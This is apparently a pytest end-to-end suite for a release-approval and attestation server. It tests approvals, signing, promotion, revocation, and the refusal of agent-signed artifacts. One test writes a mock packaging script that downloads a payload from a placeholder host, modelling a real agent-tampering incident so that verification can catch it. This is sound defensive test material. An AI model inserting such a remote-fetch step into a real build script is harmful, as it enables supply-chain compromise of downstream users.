"""The end-to-end release scenarios through a real control plane on loopback.

The repository is real (real commits, a v1.3.0 tag), the server is a real uvicorn on 127.0.0.1
with its own database (SQLite, and PostgreSQL where one is configured) and ledger, approvals are
given through its API, and the CLI talks to it with `--server`. Builders and signers are the
server's witnessed callers (`service:<token name>`), so the policy trusts those.
"""

from __future__ import annotations

import contextlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from clirun import Result
from gitrepo import COPILOT
from pg import fresh_database
from schemas import validate
from serverkit import Api, ThreadServer, claim, close_clients, make_settings

from signoff.ledger.events import EventType
from signoff.release.artifacts import file_digest
from signoff.trace.render import from_json, render, to_json

from .conftest import RELEASE, World, failing
from .test_release_e2e import LOCK

SERVER_RELEASE = RELEASE.replace("[ci@example.com]", "[service:ci]").replace(
    "[signer@example.com]", "[service:release-signer]"
)


@dataclass
class Srv:
    w: World
    server: ThreadServer
    admin: Api
    tokens: dict[str, str]

    def api(self, who: str) -> Api:
        return Api(self.server.url, self.tokens[who])

    def cli(self, who: str, *argv: str) -> Result:
        url, token = self.server.url, self.tokens[who]
        return self.w.cli(*argv, "--server", url, "--token", token, "--server-repo", "demo")

    def approve(self, who: str, head: str = "main") -> None:
        git = self.w.repo.git
        base, tip = git("rev-parse", "v1.3.0^{commit}"), git("rev-parse", head)
        self.api(who).ok(
            "POST", "/v1/repos/demo/approvals", {"base": base, "head": tip, "decision": "approve"}
        )

    def verify(self, *extra: str, who: str = "ci") -> tuple[int, Any]:
        r = self.cli(who, "release", "verify", "--repo", str(self.w.repo.path),
                     "--from", "v1.3.0", "--to", "main", "--format", "json", *extra)  # fmt: skip
        assert r.code in (0, 1), r.err
        validate(r.json(), "release-v1.json")  # the control plane's report, as the CLI prints it
        return r.code, r.json()

    def record(self, who: str, kind: str, art: Path, *extra: str) -> Result:
        return self.cli(who, "artifact", kind, str(art), *extra)


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
def srv(
    world: Callable[..., World], tmp_path: Path, request: pytest.FixtureRequest
) -> Iterator[Srv]:
    """Each scenario on the embedded database and on PostgreSQL."""
    with contextlib.ExitStack() as stack:
        url = None
        if request.param == "postgresql":
            url = stack.enter_context(fresh_database("signoff_release"))
        yield from _srv(world, tmp_path, url)


def _srv(world: Callable[..., World], tmp_path: Path, database_url: str | None) -> Iterator[Srv]:
    w = world(SERVER_RELEASE)
    server = ThreadServer(make_settings(tmp_path / "srv", database_url))
    admin = Api(server.url, server.bootstrap())
    admin.ok("POST", "/v1/repos", {"name": "demo", "path": str(w.repo.path)})
    for group in ("maintainers", "release-managers"):
        admin.ok("POST", "/v1/groups", {"name": group, "members": []})
    for who, groups in {"alice": ["maintainers"], "carol": ["release-managers"]}.items():
        pub = Path(f"{w.keys[who]}.pub").read_text().strip()
        body = {"id": who, "email": f"{who}@example.com", "name": who.title(), "groups": groups,
                "keys": [pub]}  # fmt: skip
        admin.ok("POST", "/v1/humans", body)
    # each person claims the token issued for them with their own key before deciding anything
    tokens = {p: claim(server.url, admin.token_for(p, ["approver"], p), w.keys[p])
              for p in ("alice", "carol")}  # fmt: skip
    for name, roles in [("ci", ["ci"]), ("release-signer", ["ci"]), ("auditor", ["auditor"])]:
        tokens[name] = admin.token_for(name, roles)
    tokens["admin"] = admin.token or ""
    admin.ok(
        "POST", "/v1/agents", {"id": "copilot", "owner": "p@example.com", "purpose": "t",
                               "review_by": "2999-01-01"},
    )  # fmt: skip
    yield Srv(w, server, admin, tokens)
    close_clients()
    server.stop()


def lockfile_release(s: Srv) -> None:
    s.w.repo.write("package-lock.json", LOCK)
    s.w.repo.commit("bump left-pad", author=COPILOT)
    s.approve("alice")
    s.approve("carol")


def build_and_sign(s: Srv, name: str = "app-1.4.0.tgz") -> Path:
    art = s.w.artifact(name, b"release bytes")
    head = s.w.repo.head()
    assert s.record("ci", "built", art, "--commit", head).code == 0
    r = s.record("release-signer", "signed", art)
    assert r.code == 0 and "(by service:release-signer" in r.out, r.err
    return art


def test_approved_agent_lockfile_release_passes_and_promotes(srv: Srv, tmp_path: Path) -> None:
    lockfile_release(srv)
    art = build_and_sign(srv)
    bundle = tmp_path / "release.intoto.jsonl"
    code, doc = srv.verify("--artifact", str(art), "--attest-out", str(bundle))
    assert code == 0, failing(doc)
    assert doc["result"] == "PASSED" and doc["artifacts"][0]["signed_by"] == [
        "service:release-signer"
    ]
    assert {s["group"] for s in doc["approvals"]} == {"maintainers", "release-managers"}
    # the same text report as the local renderer, from the stored report
    r = srv.cli("ci", "release", "verify", "--repo", str(srv.w.repo.path), "--from", "v1.3.0",
                "--to", "main", "--artifact", str(art))  # fmt: skip
    assert r.code == 0 and "[PASS] release-approvals" in r.out and "Result: PASSED" in r.out
    # the attestation verifies against the ledger's public key as the server publishes it
    vkey = tmp_path / "ledger.vkey"
    vkey.write_text(srv.api("auditor").ok("GET", "/v1/ledger/public-key")["verifier_key"])
    r = srv.w.cli("attest", "verify", str(bundle), "--key", str(vkey), "--artifact", str(art))
    assert r.code == 0 and "attestation VERIFIED" in r.out, r.out + r.err
    # recorded: release.verified by the caller; promote by a release manager
    events = srv.server.ctx.recorder.ledger.recent(50)
    [ev] = [e for e in events if e.type is EventType.RELEASE_VERIFIED][:1]
    assert ev.actor == "service:ci" and ev.subjects["repo"] == "demo"
    r = srv.cli("alice", "release", "promote", "--release", "v1.4.0")
    assert r.code == 2 and "no release report for tag v1.4.0" in r.err
    page = srv.api("auditor").ok("GET", "/v1/repos/demo/releases")
    rid = page["items"][0]["id"]
    r = srv.cli("alice", "release", "promote", "--release", rid)
    assert r.code == 2 and "not_in_release_group" in r.err
    r = srv.cli("carol", "release", "promote", "--release", rid)
    assert r.code == 0 and "release.promoted" in r.out and "by human:carol" in r.out, r.err
    got = srv.api("auditor").ok("GET", f"/v1/releases/{rid}")
    assert [p["by"] for p in got["promotions"]] == ["human:carol"]
    # trace through the server: same renderers as the local path
    r = srv.cli("auditor", "trace", "--artifact", str(art), "--format", "json")
    assert r.code == 0 and "bump left-pad" in r.out, r.err
    validate(r.json(), "trace-v1.json")
    [node] = [n for n in r.json()["nodes"] if n["id"] == f"release:{rid}"]
    assert node["promoted"].startswith("by human:carol")
    r = srv.cli("auditor", "trace", "--artifact", str(art), "--format", "mermaid")
    assert r.code == 0 and r.out.startswith("flowchart LR")


def test_stale_approval_fails_and_cannot_be_promoted(srv: Srv) -> None:
    lockfile_release(srv)
    srv.w.repo.write("package-lock.json", LOCK.replace("1.3.0", "1.3.1"))
    srv.w.repo.commit("tweak the lockfile after review")
    code, doc = srv.verify()
    assert code == 1 and doc["result"] == "FAILED"
    problems = failing(doc)
    assert any("package-lock.json" in p and "stale approval" in p for p in problems["changes"])
    [rel] = srv.api("carol").ok("GET", "/v1/repos/demo/releases")["items"]
    assert rel["result"] == "FAILED" and rel["failures"] >= 2
    r = srv.api("carol").post(f"/v1/releases/{rel['id']}/promote", {})
    assert r.status_code == 409 and r.json()["error"]["code"] == "release_failed"


def test_agent_modified_packaging_script_fails(srv: Srv) -> None:
    """The Amazon Q 1.84.0 shape, approved by a maintainer only."""
    srv.w.repo.write("scripts/package.ts", "build();\ndownload('https://x.invalid/a.bk');\n")
    srv.w.repo.commit(
        "fix(amazonq): Shut it down", author=("aws-toolkit-automation", "a@x.invalid")
    )
    srv.approve("alice")
    code, doc = srv.verify()
    assert code == 1
    [p] = failing(doc)["release-approvals"]
    assert "scripts/package.ts (packaging-build)" in p and "release-managers" in p


def test_revoked_agent_commit_fails(srv: Srv) -> None:
    lockfile_release(srv)
    assert srv.verify()[0] == 0
    agent = srv.admin.ok("GET", "/v1/agents/copilot")
    srv.admin.ok(
        "PATCH", "/v1/agents/copilot", {"version": agent["version"], "status": "suspended"}
    )
    code, doc = srv.verify()
    assert code == 1 and set(failing(doc)) == {"identities"}
    assert "agent copilot was revoked" in failing(doc)["identities"][0]


def test_artifact_signed_by_an_agent_identity_fails(srv: Srv) -> None:
    lockfile_release(srv)
    art = srv.w.artifact("app.tgz", b"bytes")
    digest = file_digest(art)
    assert srv.record("ci", "built", art, "--commit", srv.w.repo.head()).code == 0
    # an agent's token is refused, whatever its role, and so is an agent signer
    srv.tokens["copilot"] = srv.admin.token_for("copilot", ["ci"])
    r = srv.record("copilot", "signed", art)
    assert r.code == 2 and "never_agent_action" in r.err and "registered agent copilot" in r.err
    r = srv.record("release-signer", "signed", art, "--signer", "agent:claude")
    assert r.code == 2 and "never_agent_action" in r.err
    assert srv.record("auditor", "signed", art).code == 2  # auditors cannot record
    resp = srv.api("auditor").post("/v1/artifacts/signed", {"digest": digest})
    assert resp.status_code == 403 and resp.json()["error"]["code"] == "forbidden"
    # an agent's signature that reached the ledger some other way fails the release
    assert srv.record("release-signer", "signed", art).code == 0
    assert srv.verify("--artifact", str(art))[0] == 0
    srv.server.ctx.recorder.record(
        EventType.ARTIFACT_SIGNED, "agent:copilot", {"artifact": digest}, {"signer": "copilot"}
    )
    code, doc = srv.verify("--artifact", str(art))
    assert code == 1
    assert any("artifact.signed by an agent identity" in p for p in failing(doc)["artifacts"])


def test_server_refusals_and_errors(srv: Srv) -> None:
    r = srv.cli("auditor", "release", "verify", "--repo", str(srv.w.repo.path), "--to", "nope")
    assert r.code == 2 and "HTTP 422" in r.err and "\n" not in r.err.strip()
    r = srv.cli("ci", "release", "verify", "--repo", str(srv.w.repo.path), "--key", "k.pem")
    assert r.code == 2 and "drop --ledger, --key" in r.err
    r = srv.w.cli("release", "verify", "--server", srv.server.url, "--token", "")
    assert r.code == 2 and "needs a token" in r.err
    r = srv.cli("ci", "artifact", "built", "--digest", "sha256:" + "a" * 64, "--commit",
                srv.w.repo.head(), "--identity", "ci@example.com")  # fmt: skip
    assert r.code == 2 and "--identity does not apply" in r.err
    # the server's copy is behind the caller's checkout: 409, nothing verified
    api = srv.api("ci")
    body = {"from": "v1.3.0", "to": "main", "head": "0" * 40}
    resp = api.post("/v1/repos/demo/releases/verify", body)
    assert resp.status_code == 409 and resp.json()["error"]["code"] == "stale_copy"
    assert api.ok("GET", "/v1/repos/demo/releases")["items"] == []
    resp = api.get("/v1/trace", params={"commit": "1" * 40, "task": "t"})
    assert resp.status_code == 422


def test_trace_json_renders_like_the_server(srv: Srv) -> None:
    lockfile_release(srv)
    art = build_and_sign(srv)
    got = srv.api("carol").ok(
        "GET", "/v1/trace", params={"artifact": file_digest(art), "repo": "demo"}
    )
    graph, sliced = from_json(got["trace"])
    assert to_json(graph, sliced) == got["trace"]
    assert render(graph, sliced, "dot") == got["dot"]
    assert render(graph, sliced, "text") == got["text"]


def test_release_table_matches_its_migration(srv: Srv) -> None:
    from alembic.autogenerate import compare_metadata
    from alembic.migration import MigrationContext

    from signoff.server.releases.tables import metadata

    with srv.server.ctx.db.engine.connect() as conn:
        diff = compare_metadata(MigrationContext.configure(conn), metadata)
    assert [d for d in diff if "release_reports" in str(d)] == []


def test_a_suspension_reaches_the_stored_release_and_its_attestation(
    srv: Srv, tmp_path: Path
) -> None:
    """Issue item 4 on the control plane: the suspension marks the release, the stored report
    lists it, promotion is refused, and the signed bundle fails --check-revocations."""
    lockfile_release(srv)
    art = build_and_sign(srv)
    bundle = tmp_path / "release.intoto.jsonl"
    code, doc = srv.verify("--artifact", str(art), "--attest-out", str(bundle))
    assert code == 0, failing(doc)
    [provenance] = [a["provenance"] for a in doc["artifacts"]]
    assert [p["verified_by"] for p in provenance] == ["server", "server"]
    vkey = tmp_path / "ledger.vkey"
    vkey.write_text(srv.api("auditor").ok("GET", "/v1/ledger/public-key")["verifier_key"])
    check = ["attest", "verify", str(bundle), "--key", str(vkey), "--check-revocations",
             "--server", srv.server.url, "--token", srv.tokens["auditor"]]  # fmt: skip
    assert srv.w.cli(*check).code == 0
    rid = srv.api("auditor").ok("GET", "/v1/repos/demo/releases")["items"][0]["id"]
    agent = srv.admin.ok("GET", "/v1/agents/copilot")
    srv.admin.ok(
        "PATCH", "/v1/agents/copilot", {"version": agent["version"], "status": "suspended"}
    )
    events = srv.server.ctx.recorder.ledger.recent(100)
    [flag] = [e for e in events if e.type is EventType.RELEASE_REVOKED]
    assert flag.subjects["agent"] == "copilot" and flag.subjects["report"] == rid
    got = srv.api("auditor").ok("GET", f"/v1/releases/{rid}")
    assert got["result"] == "PASSED" and got["revocations"]
    assert "agent:copilot revoked at ledger seq" in got["revocations"][0]
    r = srv.api("carol").post(f"/v1/releases/{rid}/promote", {})
    assert r.status_code == 409 and r.json()["error"]["code"] == "release_revoked"
    refused = srv.w.cli(*check)
    assert refused.code == 1 and "holds work of agent:copilot" in refused.out
